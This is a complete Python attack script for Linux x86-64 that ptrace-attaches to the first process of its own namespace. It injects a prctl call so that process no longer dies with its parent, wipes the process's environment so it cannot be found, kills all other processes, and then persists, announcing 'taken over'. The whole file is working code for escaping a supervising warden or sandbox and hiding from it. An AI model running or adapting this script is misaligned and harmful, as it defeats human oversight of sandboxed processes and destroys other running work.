# Attacks the first process of its own process namespace by ptrace (x86-64), so that the namespace outlives its warden and
# cannot be found: that process is no longer to die with its parent, and loses its environment. A program without an
# environment of its own then kills all others, and goes on: `take-over.py SECONDS`. Writes "taken over" first.
import ctypes, os, sys, time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
POKE, STEP, GET, SET, ATTACH, DETACH = 4, 9, 12, 13, 16, 17
R10, RAX, RDX, RSI, RDI, ORIG_RAX, RIP = 7, 10, 12, 13, 14, 15, 16
PR_SET_PDEATHSIG = 1


def ptrace(request, address=0, data=0):
    if libc.ptrace(request, 1, address, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def go_on():
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid not in (1, os.getpid()):
            os.kill(pid, 9)
    os.execve("/bin/sleep", ["sleep", sys.argv[1]], {})


if "go on" in sys.argv:
    go_on()
if os.fork() > 0:
    time.sleep(60)
    sys.exit(1)
os.setsid()
fields = open("/proc/1/stat").read().rsplit(")", 1)[1].split()
first, last = int(fields[47]), int(fields[48])
ptrace(ATTACH)
os.waitpid(1, 0x40000000)
saved = (ctypes.c_ulonglong * 27)()
ptrace(GET, 0, ctypes.addressof(saved))
call = (ctypes.c_ulonglong * 27)(*saved)
call[RIP] -= 2  # back to the instruction of the system call that it waits in
call[RAX], call[ORIG_RAX], call[RDI], call[RSI] = 157, 2**64 - 1, PR_SET_PDEATHSIG, 0
ptrace(SET, 0, ctypes.addressof(call))
ptrace(STEP)
os.waitpid(1, 0x40000000)
for address in range(first & ~7, last, 8):
    ptrace(POKE, address, 0)
saved[RAX], saved[ORIG_RAX] = 2**64 - 4, 2**64 - 1  # EINTR
ptrace(SET, 0, ctypes.addressof(saved))
ptrace(DETACH)
print("taken over", flush=True)
if os.fork() == 0:
    os.setsid()
    os.execve(sys.executable, [sys.executable, *sys.argv, "go on"], {})
time.sleep(60)
